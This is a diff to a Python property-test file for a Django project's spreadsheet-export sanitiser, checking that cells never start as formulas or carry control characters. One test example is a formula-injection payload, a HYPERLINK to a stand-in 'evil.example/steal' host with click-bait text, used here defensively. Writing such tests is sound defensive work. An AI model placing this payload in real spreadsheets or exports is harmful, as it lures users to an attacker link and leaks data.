@@ -13,7 +13,8 @@ from django.utils import translation
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from config.exports import FORMULA_STARTS, neutralize
+from config.exports import FORMULA_CHARACTERS, SKIPPED, safe_cell
+from config.text import CONTROL_BUT_LINES
 from reports.importing.reading import FileError, open_sheet
 from reports.importing.values import CellError, parse_count, parse_date, unescape
 from tests.imports.make_corpus import FIG, xlsx
@@ -167,8 +168,13 @@ def test_parsers_raise_only_cell_errors(value):
 @given(st.text())
 @example("=1+1")
 @example("'-Team")
-def test_neutralized_text_is_never_a_formula(text):
-    assert not neutralize(text).startswith(FORMULA_STARTS)
+@example('\x01=HYPERLINK("http://evil.example/steal","Bấm vào đây")')
+@example(" \t\r\n@SUM(A1)")
+@example("\x00\uff1d1+1")
+def test_a_safe_cell_is_never_a_formula_nor_holds_a_control_character(text):
+    safe = safe_cell(text)
+    assert safe.lstrip(SKIPPED)[:1] not in FORMULA_CHARACTERS
+    assert not CONTROL_BUT_LINES.search(safe)
 
 
 @PROPERTIES
@@ -176,15 +182,22 @@ def test_neutralized_text_is_never_a_formula(text):
 @example('=HYPERLINK("http://example.com","x")')
 @example("\t=1")
 @example("'")
-def test_unescape_undoes_neutralize(text):
-    assert unescape(neutralize(text)) == text
+def test_unescape_undoes_safe_cell(text):
+    assert unescape(safe_cell(text)) == CONTROL_BUT_LINES.sub("", text)
 
 
 @PROPERTIES
 @given(st.text())
 @example("'=1+1")
-def test_unescape_undoes_neutralize_for_any_text(text):
-    assert unescape(neutralize(text)) == text
+@example("''=1+1")
+@example("' =1")
+def test_unescape_undoes_safe_cell_for_any_text(text):
+    assert unescape(safe_cell(text)) == CONTROL_BUT_LINES.sub("", text)
+
+
+def test_numbers_and_dates_are_left_alone():
+    day = datetime.date(2024, 1, 2)
+    assert [safe_cell(-3), safe_cell(2.5), safe_cell(day), safe_cell(None)] == [-3, 2.5, day, None]
 
 
 # Reading arbitrary bytes ----------------------------------------------------------------------
